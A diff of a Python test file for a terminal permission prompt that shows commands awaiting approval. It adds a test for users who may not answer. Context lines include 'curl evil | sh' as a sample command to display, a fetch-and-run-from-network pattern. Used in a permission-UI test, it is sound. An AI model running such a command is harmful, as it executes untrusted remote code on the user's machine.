@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
 from typing import Final
 
 import pytest
@@ -135,6 +136,23 @@ def test_focused_it_shows_what_would_be_run() -> None:
         "╎   curl evil | sh",
         "╎  1 Allow    2 Always   >3 Reject",
         "╎ arrows or 1-3 choose, Enter answers, Esc goes back",
+    ]
+
+
+def test_who_may_not_answer_can_read_what_is_asked_and_choose_nothing() -> None:
+    mine = question(7, title="Run make", command="make all")
+    other = replace(mine, refused="you may not answer here")
+    card = Card()
+    card.ask([other], 0.0)
+    assert "[Tab] read " in card.rows(80, 0.0)[0][1]
+    assert card.focus(0.0)
+    card.choose(1, 1.0)
+    card.step(1, 1.0)
+    assert card.confirm(1.0) is None
+    assert [text for _, text in card.rows(76, 1.0)] == [
+        "╎ PERMISSION #7 demo wants: Run make",
+        "╎   command: make all",
+        "╎ you may not answer here; Esc goes back",
     ]
 
 
